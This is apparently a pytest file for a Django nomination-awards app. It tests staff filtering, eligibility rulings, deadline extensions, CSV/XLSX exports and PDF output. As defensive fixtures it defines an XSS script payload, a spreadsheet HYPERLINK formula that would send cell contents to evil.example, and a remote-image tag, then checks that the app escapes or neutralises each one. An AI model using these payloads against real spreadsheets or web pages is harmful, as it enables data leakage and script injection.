"""Staff's work with nominations: the filtered list, eligibility, extensions, CSV/XLSX exports and the PDF."""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import translation

from awards import pdf
from awards.models import AwardCycle, Nomination
from awards.selectors.jury import jury_nominations
from awards.services import nominations as services
from practices.models import Municipality, Organisation
from tests.factories import (
    JuryMembershipFactory,
    OrganisationFactory,
    complete_draft,
    nominator_for,
    open_cycle_with_criteria,
)

pytestmark = pytest.mark.django_db

PAYLOAD = '<script>alert("x")</script>'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


@pytest.fixture
def staff(django_user_model):
    return django_user_model.objects.create_user("staff@example.fi", "x", is_staff=True, first_name="Sari")


@pytest.fixture
def cycle():
    return open_cycle_with_criteria(2)


def submitted(cycle, organisation=None, **fields):
    nomination = complete_draft(cycle=cycle, organisation=organisation, **fields)
    return services.nomination_submit(nomination=nomination, by=nomination.created_by).nomination


def org_in(code: str, kind=Organisation.Kind.MUNICIPALITY):
    return OrganisationFactory(kind=kind, municipalities=list(Municipality.objects.filter(code=code)))


def test_staff_nomination_list_requires_staff(client, cycle):
    url = reverse("awards:staff_nominations", args=[cycle.pk])
    assert client.get(url).status_code == 302
    client.force_login(nominator_for(OrganisationFactory()))
    assert client.get(url).status_code == 403
    assert client.get(reverse("awards:staff_nominations_csv", args=[cycle.pk])).status_code == 403


def test_staff_nomination_list_filters_by_state_region_county_and_kind(client, otp_login, staff, cycle):
    imatra = submitted(cycle, org_in("153"), name="Imatran malli")  # Etelä-Karjala, Etelä-Karjalan hva
    vantaa = complete_draft(cycle=cycle, organisation=org_in("092"), name="Vantaan luonnos")
    ngo = submitted(cycle, org_in("091", Organisation.Kind.NGO), name="Järjestön malli")
    otp_login(client, staff)
    url = reverse("awards:staff_nominations", args=[cycle.pk])

    def names(**params):
        return {n.name for n in client.get(url, params).context["nominations"]}

    assert names() == {imatra.name, vantaa.name, ngo.name}
    assert names(state="draft") == {vantaa.name}
    assert names(state="submitted") == {imatra.name, ngo.name}
    imatra_municipality = Municipality.objects.get(code="153")
    assert names(region=imatra_municipality.region_id) == {imatra.name}
    assert names(county=imatra_municipality.county_id) == {imatra.name}
    assert names(kind=Organisation.Kind.NGO) == {ngo.name}
    assert names(state="bogus") == {imatra.name, vantaa.name, ngo.name}


def test_staff_nomination_list_query_count_one(client, otp_login, staff, cycle, django_assert_num_queries):
    submitted(cycle)
    otp_login(client, staff)
    url = reverse("awards:staff_nominations", args=[cycle.pk])
    with django_assert_num_queries(12):
        response = client.get(url)
    assert len(response.context["nominations"]) == 1


def test_staff_nomination_list_query_count_many(client, otp_login, staff, cycle, django_assert_num_queries):
    for _ in range(15):
        submitted(cycle)
    otp_login(client, staff)
    url = reverse("awards:staff_nominations", args=[cycle.pk])
    with django_assert_num_queries(12):
        response = client.get(url)
    assert len(response.context["nominations"]) == 15


def test_staff_marks_ineligible_with_reason_and_it_never_reaches_the_jury(client, otp_login, staff, cycle):
    nomination = submitted(cycle)
    other = submitted(cycle)
    juror = JuryMembershipFactory(cycle=cycle).user
    otp_login(client, staff)
    url = reverse("awards:staff_nomination", args=[nomination.pk])
    missing_reason = client.post(url, {"action": "eligibility", "eligibility": "ineligible", "reason": ""})
    assert missing_reason.status_code == 400
    assert "Give the reason why the nomination is ineligible." in missing_reason.content.decode()
    nomination.refresh_from_db()
    assert nomination.eligibility == Nomination.Eligibility.PENDING
    client.post(url, {"action": "eligibility", "eligibility": "ineligible", "reason": "Ei kunnallinen toimija"})
    nomination.refresh_from_db()
    assert nomination.eligibility == Nomination.Eligibility.INELIGIBLE
    assert nomination.eligibility_reason == "Ei kunnallinen toimija"
    AwardCycle.objects.filter(pk=cycle.pk).update(state=AwardCycle.State.SCORING)
    assert list(jury_nominations(juror)) == [other]


def test_staff_eligibility_of_a_draft_is_refused(staff, cycle):
    draft = complete_draft(cycle=cycle)
    with pytest.raises(ValidationError, match="Only submitted"):
        services.nomination_set_eligibility(nomination=draft, eligibility="eligible", reason="", by=staff)


def test_staff_eligibility_by_non_staff_is_refused(cycle):
    nomination = submitted(cycle)
    with pytest.raises(ValidationError):
        services.nomination_set_eligibility(
            nomination=nomination, eligibility="ineligible", reason="x", by=nomination.created_by
        )


def test_staff_grants_extension_on_the_staff_page(client, otp_login, staff, cycle):
    draft = complete_draft(cycle=cycle)
    otp_login(client, staff)
    until = (cycle.nominations_close_at + timedelta(days=3)).astimezone()
    response = client.post(
        reverse("awards:staff_nomination", args=[draft.pk]),
        {"action": "extension", "until": until.strftime("%Y-%m-%dT%H:%M"), "reason": "Tietojärjestelmän katko"},
    )
    assert response.status_code == 302
    extension = draft.extensions.get()
    assert extension.reason == "Tietojärjestelmän katko"
    assert extension.granted_by == staff
    page = client.get(reverse("awards:staff_nomination", args=[draft.pk])).content.decode()
    assert "Tietojärjestelmän katko" in page


def test_staff_extension_before_the_deadline_is_refused(client, otp_login, staff, cycle):
    draft = complete_draft(cycle=cycle)
    otp_login(client, staff)
    early = (cycle.nominations_close_at - timedelta(days=1)).astimezone()
    response = client.post(
        reverse("awards:staff_nomination", args=[draft.pk]),
        {"action": "extension", "until": early.strftime("%Y-%m-%dT%H:%M"), "reason": "Syy"},
    )
    assert response.status_code == 400
    assert "must end after the cycle" in response.content.decode()
    assert not draft.extensions.exists()


def test_staff_nomination_page_escapes_payloads(client, otp_login, staff, cycle):
    nomination = submitted(cycle, name=PAYLOAD, summary=PAYLOAD, contact_name=PAYLOAD)
    services.nomination_set_eligibility(nomination=nomination, eligibility="ineligible", reason=PAYLOAD, by=staff)
    otp_login(client, staff)
    for url in [
        reverse("awards:staff_nomination", args=[nomination.pk]),
        reverse("awards:staff_nominations", args=[cycle.pk]),
    ]:
        body = client.get(url).content.decode()
        assert PAYLOAD not in body
        assert "&lt;script&gt;" in body


def test_staff_export_csv_neutralises_formulas_and_keeps_text(client, otp_login, staff, cycle):
    submitted(cycle, name=FORMULA, summary=PAYLOAD, contact_phone="+358 40 1", funder="@SUM(1+1)")
    otp_login(client, staff)
    response = client.get(reverse("awards:staff_nominations_csv", args=[cycle.pk]))
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    header, row = rows[0], rows[1]
    record = dict(zip(header, row, strict=True))
    assert record["Name of the practice"] == "'" + FORMULA
    assert record["Short description"] == PAYLOAD  # literal text: a CSV is not HTML
    assert record["Contact person's phone"] == "'+358 40 1"
    assert record["Reference number"].startswith(f"LST-{cycle.year}-")
    assert any(h.startswith("Justification: ") for h in header)
    assert len(rows) == 2


def test_staff_export_xlsx_has_no_formulas(client, otp_login, staff, cycle):
    submitted(cycle, name=FORMULA, summary="-1+2")
    submitted(cycle, name="Tavallinen malli")
    otp_login(client, staff)
    response = client.get(reverse("awards:staff_nominations_xlsx", args=[cycle.pk]))
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    types = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in types
    header = values[0]
    names = {row[header.index("Name of the practice")] for row in values[1:]}
    assert names == {"'" + FORMULA, "Tavallinen malli"}
    summaries = {row[header.index("Short description")] for row in values[1:]}
    assert "'-1+2" in summaries


def test_staff_export_follows_the_filters(client, otp_login, staff, cycle):
    submitted(cycle, name="Lähetetty")
    complete_draft(cycle=cycle, name="Luonnos")
    otp_login(client, staff)
    response = client.get(reverse("awards:staff_nominations_csv", args=[cycle.pk]), {"state": "submitted"})
    text = response.content.decode("utf-8-sig")
    assert "Lähetetty" in text
    assert "Luonnos" not in text


def test_nomination_pdf_is_a_pdf_for_nominator_and_staff(client, otp_login, staff, cycle):
    nomination = submitted(cycle)
    client.force_login(nomination.created_by)
    response = client.get(reverse("awards:nomination_pdf", args=[nomination.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    assert nomination.reference in response["Content-Disposition"]
    otp_login(client, staff)
    assert client.get(reverse("awards:nomination_pdf", args=[nomination.pk])).status_code == 200


def test_nomination_pdf_escapes_payload_and_lists_attachments(monkeypatch, cycle):
    nomination = submitted(cycle, summary=PAYLOAD, basic_idea='<img src="http://evil.example/x.png">')
    Nomination.objects.filter(pk=nomination.pk).update(state=Nomination.State.DRAFT)
    from awards.models import Attachment  # noqa: PLC0415

    Attachment.objects.create(
        nomination=nomination, stored_name="abc.pdf", original_name="<b>liite</b>.pdf", content_type="x", size=10
    )
    seen = {}
    real = pdf.pisa.CreatePDF

    def capture(src, **kwargs):
        seen["html"] = src
        return real(src, **kwargs)

    monkeypatch.setattr(pdf.pisa, "CreatePDF", capture)
    content = pdf.nomination_pdf(nomination)
    assert content.startswith(b"%PDF")
    assert "&lt;script&gt;" in seen["html"]
    assert "<script>" not in seen["html"]
    assert '<img src="http://evil.example' not in seen["html"]
    assert "&lt;b&gt;liite&lt;/b&gt;.pdf" in seen["html"]
    for justification in nomination.justifications.all():
        assert justification.text in seen["html"]


def test_staff_eligibility_resets_when_the_nominator_reopens(staff, cycle):
    nomination = submitted(cycle)
    services.nomination_set_eligibility(nomination=nomination, eligibility="ineligible", reason="Puuttuu", by=staff)
    services.nomination_reopen(nomination=nomination, by=nomination.created_by)
    nomination.refresh_from_db()
    assert nomination.eligibility == Nomination.Eligibility.PENDING
    assert nomination.eligibility_reason == ""
